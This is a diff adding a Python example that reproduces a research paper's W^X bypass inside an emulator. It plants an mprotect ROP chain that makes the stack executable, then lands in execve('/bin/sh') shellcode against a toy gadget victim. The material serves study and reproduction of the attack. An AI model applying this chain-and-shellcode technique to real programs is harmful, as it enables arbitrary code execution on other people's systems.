@@ -1,0 +1,137 @@
+#!/usr/bin/env python3
+"""Full W^X bypass: mprotect chain + second-stage shellcode.
+
+The paper's second attack family (Sec. II-B): "invoke the system call
+mprotect to mark a page containing attacker-controlled content as
+executable and then redirect the program execution toward that tampered
+page."  This example carries it through to the end:
+
+1. Gadget-Planner builds an mprotect chain that makes the *stack page
+   holding the payload itself* executable.
+2. The payload is extended with raw shellcode (assembled on the fly)
+   and a pointer so that the `ret` after the goal syscall lands on it.
+3. The whole thing is executed: mprotect is modelled (the page really
+   becomes executable), the chain returns into the payload, and the
+   shellcode's execve("/bin/sh") proves arbitrary code execution.
+
+Because the victim machine has no ASLR (threat model), the payload's
+stack address is discovered with a deterministic dry run.
+
+Run:  python examples/wx_bypass.py
+"""
+
+from repro.binfmt import make_image
+from repro.emulator import AttackTriggered, Emulator, Sys
+from repro.emulator.memory import PERM_R, PERM_W
+from repro.isa import Reg, assemble, assemble_unit
+from repro.planner import GadgetPlanner, mprotect_goal
+from repro.planner.payload import JUNK_REGION
+
+VICTIM = """
+    hlt
+g1:
+    pop rax
+    ret
+g2:
+    pop rdi
+    ret
+g3:
+    pop rsi
+    ret
+g4:
+    pop rdx
+    ret
+g5:
+    syscall
+    ret
+"""
+
+
+def build_stage2_shellcode() -> bytes:
+    """execve("/bin/sh", 0, 0) — with the path embedded in the code."""
+    return assemble(
+        """
+        start:
+            mov rdi, path
+            mov rsi, 0
+            mov rdx, 0
+            mov rax, 59
+            syscall
+        path:
+        """,
+        base_addr=0,  # patched below once the landing address is known
+    )
+
+
+def run_with_payload(image, payload_bytes, *, stop_on_attack):
+    emu = Emulator(image, stop_on_attack=stop_on_attack, step_limit=1_000_000)
+    emu.memory.map(JUNK_REGION, 0x2000, PERM_R | PERM_W)
+    for reg in Reg:
+        if reg is not Reg.RSP:
+            emu.cpu.set(reg, JUNK_REGION + 0x800)
+    base = emu.cpu.get(Reg.RSP)
+    emu.memory.write(base, payload_bytes)
+    emu.cpu.set(Reg.RSP, base + 8)
+    emu.cpu.rip = int.from_bytes(payload_bytes[:8], "little")
+    return emu, base
+
+
+def main() -> None:
+    unit = assemble_unit(VICTIM, base_addr=0x400000)
+    image = make_image(unit.code, symbols=dict(unit.labels))
+
+    # Probe the stack layout first: where will the payload live?
+    probe = Emulator(image)
+    stack_base = probe.cpu.get(Reg.RSP)
+    page = stack_base & ~0xFFF
+
+    print(f"payload will live at {stack_base:#x} (page {page:#x})")
+    planner = GadgetPlanner(image)
+    report = planner.run(goals=[mprotect_goal(addr=page, length=0x4000, prot=7)])
+    assert report.payloads, "no mprotect chain found"
+    payload = report.payloads[0]
+    print("stage 1 (mprotect chain):")
+    print(payload.describe())
+
+    # Stage 2: the `ret` after the goal syscall pops the word at
+    # base + 8 + Σ(stack deltas) — plant the shellcode pointer exactly
+    # there, and the shellcode right after the payload.
+    chain_bytes = bytearray(payload.to_bytes())
+    pointer_offset = 8 + sum(g.stack_delta or 0 for g in payload.chain)
+    if len(chain_bytes) < pointer_offset + 8:
+        chain_bytes += b"\x41" * (pointer_offset + 8 - len(chain_bytes))
+    shellcode_addr = stack_base + len(chain_bytes)
+    shellcode = assemble(
+        f"""
+        start:
+            mov rdi, {shellcode_addr + 0x30}
+            mov rsi, 0
+            mov rdx, 0
+            mov rax, 59
+            syscall
+        """,
+    )
+    shellcode = shellcode.ljust(0x30, b"\x00") + b"/bin/sh\x00"
+    chain_bytes[pointer_offset : pointer_offset + 8] = shellcode_addr.to_bytes(8, "little")
+    full = bytes(chain_bytes) + shellcode
+    print(f"\nstage 2: {len(shellcode)} bytes of shellcode at {shellcode_addr:#x}")
+
+    emu, _ = run_with_payload(image, full, stop_on_attack=False)
+    try:
+        emu.run()
+    except AttackTriggered as attack:
+        print(f"\nfirst stop: {attack.event.number.name}{attack.event.args[:3]}")
+    except Exception:
+        pass  # the run ends when execution falls off the shellcode
+    events = emu.syscalls.events
+    assert events[0].number == Sys.MPROTECT, "mprotect did not fire"
+    shell = next((e for e in events if e.number == Sys.EXECVE), None)
+    if shell is None:
+        # stop_on_attack=False records and continues; keep running.
+        raise SystemExit("execve never fired — W^X bypass failed")
+    print(f"mprotect({events[0].addr:#x}, ...) made the stack executable")
+    print(f"shellcode ran: execve({shell.path!r}, 0, 0) ✔")
+
+
+if __name__ == "__main__":
+    main()
